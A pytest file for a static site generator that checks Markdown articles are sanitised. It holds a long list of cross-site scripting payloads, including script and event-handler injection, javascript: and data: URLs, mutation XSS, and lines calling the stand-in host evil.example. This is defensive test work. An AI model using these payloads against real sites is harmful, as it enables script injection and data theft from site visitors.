"""Nothing in an article can run, leave its place in the page, or pass for a part of the page."""

from collections.abc import Iterator

import html5lib
import pytest
from playwright.sync_api import Browser, Dialog, Page

from sitegen.body import fill
from sitegen.markdown import read_markdown
from tests.server import serve
from tests.sites import Folder, article

RUN = "window.ran=1;alert(1)"
IMAGE = f"<img src=x onerror={RUN}>"
VECTORS = {
    "M01 script": f"<script>{RUN}</script>",
    "M01 script in a paragraph": f"a <script>{RUN}</script> b",
    "M01 script from elsewhere": "<script src=https://evil.example/x.js></script>",
    "M01 script with a slash": f"<script/x>{RUN}</script/y>",
    "M01 split script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "M01 unclosed script in a paragraph": f"a <script>{RUN}",
    "M01 image": f'<img src=x onerror="{RUN}">',
    "M01 image with slashes": f"<img/src=x/onerror={RUN}>",
    "M01 image with a backtick": f"<img src=`x`onerror={RUN}>",
    "M01 image with an upper-case event": f"<IMG SRC=x ONERROR={RUN}>",
    "M01 image with a newline": f"<img src=x\nonerror\n=\n{RUN}>",
    "M01 image with a form feed": f"<img\fsrc=x\fonerror={RUN}>",
    "M01 image set": f"<img srcset=x src=x onerror={RUN}>",
    "M01 events on allowed tags": f'<b onmouseover="{RUN}" onfocus="{RUN}" tabindex=1 autofocus>b</b>',
    "M01 details": f'<details open ontoggle="{RUN}"><summary>a</summary>b</details>',
    "M01 svg": f'<svg onload="{RUN}"><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    "M01 svg script": f"<svg><script>{RUN}</script></svg>",
    "M01 svg link": f'<svg><a xlink:href="javascript:{RUN}"><text y=20>a</text></a></svg>',
    "M01 svg use": '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
    "M01 math": f'<math><maction actiontype="statusline#" xlink:href="javascript:{RUN}">a</maction></math>',
    "M01 iframe": f'<iframe src="javascript:{RUN}"></iframe>',
    "M01 iframe source": f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "M01 iframe that breaks out": f'<iframe src="https://example.org/&quot;><script>{RUN}</script>"></iframe>',
    "M01 object": f'<object data="javascript:{RUN}"></object><embed src="javascript:{RUN}">',
    "M01 object data": "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
    "M01 video": f'<video><source onerror="{RUN}"></video><audio src=x onerror="{RUN}"></audio>',
    "M01 style": "<style>@import 'https://evil.example/x.css'; main{display:none}</style>",
    "M01 style attribute": '<p style="position:fixed;inset:0;background:url(javascript:alert(1))">a</p>',
    "M01 stylesheet": '<link rel=stylesheet href="https://evil.example/x.css">',
    "M01 base": '<base href="https://evil.example/">',
    "M01 refresh": '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "M01 form": '<form action="https://evil.example/"><input name=q><button>Go</button></form>',
    "M01 nested forms": f'<form id=a><div></form><form id=b><input formaction="javascript:{RUN}" type=image>',
    "M01 button": f'<button form=x formaction="javascript:{RUN}">a</button>',
    "M01 frames": f'<frameset onload="{RUN}"><frame src="javascript:{RUN}"></frameset>',
    "M01 body": f'<body onload="{RUN}" class=x id=y>',
    "M01 marquee": f'<marquee onstart="{RUN}">a</marquee>',
    "M01 isindex": f'<isindex type=image src=x onerror="{RUN}">',
    "M02 link": f"[a](javascript:{RUN})",
    "M02 link in capitals": "[a](JaVaScRiPt:alert(1))",
    "M02 link with an entity": "[a](java&#10;script:alert(1))",
    "M02 link with a colon entity": "[a](javascript&colon;alert(1))",
    "M02 link behind a control character": "[a](&#1;javascript:alert(1))",
    "M02 link in angles": "[a](<javascript:alert(1)>)",
    "M02 autolink": "<javascript:alert(1)>",
    "M02 link by reference": "[a]\n\n[a]: javascript:alert(1)",
    "M02 raw link": f'<a href="javascript:{RUN}">a</a>',
    "M02 raw link with a tab": f'<a href="java\tscript:{RUN}">a</a>',
    "M02 raw link with a newline": f'<a href="\njava\nscript:{RUN}">a</a>',
    "M02 raw link with entities": "<a href=&#106;&#97;vascript&#58;alert(1)>a</a>",
    "M02 raw link behind a control character": f'<a href="\x01javascript:{RUN}">a</a>',
    "M02 vbscript": "[a](vbscript:msgbox(1))",
    "M02 file": "[a](file:///etc/passwd)",
    "M02 data": "[a](data:text/html,<script>alert(1)</script>)",
    "M02 data with base64": "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "M02 feed": "[a](feed:javascript:alert(1))",
    "M02 our own scheme": '<a href="sitegen:x">a</a> [a](sitegen:x)',
    "M02 ping": '<a href="https://example.org/" ping="https://evil.example/" target="_top">a</a>',
    "M03 svg image": "![a](data:image/svg+xml,<svg/onload=alert(1)>)",
    "M03 blob": "![a](blob:https://example.org/x)",
    "M03 javascript image": "![a](javascript:alert(1))",
    "M06 ids": '<a id="location" name="cookie">a</a><p id="main">b</p><p id="search">c</p>',
    "M06 names": '<img name="getElementById" src="https://example.org/a.png"><a name="body">x</a>',
    "M06 heading": "# constructor\n\n# __proto__",
    "M07 ends of the page": "a</p></article></main></body></html>b",
    "M07 unclosed blocks": "<div><section><blockquote>",
    "M07 a second page": "<!DOCTYPE html><html><head><title>x</title></head><body><main><h1>y</h1></main>",
    "M07 unclosed quotation mark": '<a href="https://example.org/>a\n\nb',
    "M07 unclosed tag": "<b <i <u",
    "M07 unclosed table": "<table><tr><td><table><tr>",
    "M07 select": f"<select><option><p><script>{RUN}</script>",
    "M07 template": f"<template><script>{RUN}</script></template>",
    "M07 noscript": f'<noscript><p title="</noscript>{IMAGE}"></noscript>',
    "M07 textarea": f'<textarea><img title="</textarea>{IMAGE}"></textarea>',
    "M07 title": f'<title><a title="</title>{IMAGE}"></title>',
    "M07 xmp": f'<xmp><p title="</xmp>{IMAGE}"></xmp>',
    "M07 plaintext": "<plaintext>",
    "M08 comment": f"<!-- {IMAGE} -->",
    "M08 empty comment": f"<!-->{IMAGE}-->",
    "M08 comment with an odd end": f"<!-- --!>{IMAGE} -->",
    "M08 comment of Internet Explorer": f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    "M08 processing instruction": f"<?xml {IMAGE} ?>",
    "M08 character data": f"<![CDATA[ {IMAGE} ]]>",
    "M10 title of a link": "[a](https://example.org/ '\"</a><script>alert(1)</script>')",
    "M10 title of an image": '![a](https://example.org/a.png "x\\" onerror=alert(1) y=\\"")',
    "M10 words of an image": '![a" onerror="alert(1)](https://example.org/a.png)',
    "M10 address of a link": '[a](https://example.org/"onmouseover="alert(1))',
    "M10 language of code": '```"><img/src=x/onerror=alert(1)>\nx\n```',
    "M10 code": f"```html\n<script>{RUN}</script>\n```",
    "M10 label of a footnote": f'a[^"><img/src=x/onerror={RUN}>]\n\n[^"><img/src=x/onerror={RUN}>]: b',
    "M10 cell of a table": f"| {IMAGE} |\n|---|\n| <script>{RUN}</script> |",
    "M11 template": "{{ 7*7 }}{% raw %}{{ ''.__class__.__mro__ }}",
    "mutation through math": "<math><mtext><table><mglyph><style>"
    "<!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "mutation through svg": f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    "mutation through forms": f'<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>{IMAGE}">',
    "mutation through annotation": f'<math><annotation-xml encoding="text/html"><p><style>{IMAGE}</style>',
    "mutation through a font": f'<svg><font color="x"><p title="</svg>{IMAGE}">',
    "entities that make a tag": f"&lt;script&gt;{RUN}&lt;/script&gt;",
    "escaped twice": f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
    "classes of the page": '<p class="masthead skip" data-pagefind-ignore data-x=1>a</p>',
    "an attribute that names another": '<a title="href=" href=https://example.org/ data-line="99">a</a>',
    "half a pair of surrogates": "&#xD83D;<b>&#xDE00;</b>",
}
ATTRIBUTES = set(
    "id lang dir title class href hreflang rel src alt width height loading cite span datetime open start reversed "
    "colspan rowspan headers scope abbr tabindex aria-hidden aria-labelledby role decoding".split()
)


def html(text: str) -> str:
    document = read_markdown(text, "fr", "fr-FR")
    return fill(document.body.pieces, [""] * len(document.references))


@pytest.mark.parametrize("text", [pytest.param(text, id=name) for name, text in VECTORS.items()])
def test_no_tag_or_attribute_can_run_or_reach_out(text: str) -> None:
    tree = html5lib.parseFragment(html(text), treebuilder="etree", namespaceHTMLElements=False)
    for element in tree.iter():
        assert str(element.tag) not in {"script", "style", "iframe", "object", "embed", "form", "svg", "math", "base"}
        assert set(element.attrib) <= ATTRIBUTES
        for name in ("href", "src", "cite"):
            assert element.get(name, "https:").startswith(("https:", "http:", "mailto:", "#"))
        assert element.get("id", "s-").startswith("s-")


@pytest.mark.parametrize("text", [pytest.param(text, id=name) for name, text in VECTORS.items()])
def test_html_is_read_again_as_it_was_meant(text: str) -> None:
    """Where a second reader sees another tree than the first, a sanitiser can be deceived."""
    made = f"<main><article>{html(text)}</article><footer></footer></main>"
    document = html5lib.parse(f"<!doctype html><body>{made}", treebuilder="etree", namespaceHTMLElements=False)
    assert [element.tag for element in document.findall("body/main/*")] == ["article", "footer"]
    assert len(document.findall("body/*")) == 1


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Folder:
    site = Folder(tmp_path_factory.mktemp("hostile")).write("")
    for index, text in enumerate(VECTORS.values()):
        title = f"{index} <script>{RUN}</script>" if index % 2 else f"'{index} \">{IMAGE}'"
        site.put(f"content/a{index}.md", article(f"## Before\n\n{text}\n\n## After\n", title=title, summary=title))
    errors = [problem for problem in site.problems() if problem.severity == "error"]
    for problem in errors:
        (site.root / problem.path).unlink()
    site.build()
    return site


@pytest.fixture
def bare_page(browser: Browser) -> Iterator[Page]:
    """Return a page that obeys no policy: the HTML must be safe without."""
    with browser.new_context(bypass_csp=True) as context:
        context.route("**/*", lambda route: route.continue_() if "127.0.0.1" in route.request.url else route.abort())
        yield context.new_page()


def test_nothing_runs_in_a_browser_and_the_page_keeps_its_parts(hostile_site: Folder, bare_page: Page) -> None:
    dialogs: list[str] = []

    def note(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    bare_page.on("dialog", note)
    with serve(hostile_site.root / "public") as url:
        built = sorted((hostile_site.root / "public" / "2024").glob("*/index.html"))
        assert len(built) > 0.9 * len(VECTORS)
        for path in built:
            bare_page.goto(f"{url}2024/{path.parent.name}/")
            found = bare_page.evaluate(
                """[window.ran || 0, ...[
                    'main', 'h1', 'body > footer', 'script:not([type="application/ld+json"])',
                    'main form, main iframe, main svg',
                ].map((part) => document.querySelectorAll(part).length)]"""
            )
            assert found == [0, 1, 1, 1, 0, 0], path.parent.name
        bare_page.goto(url)
        assert bare_page.evaluate("window.ran || 0") == 0
    assert dialogs == []
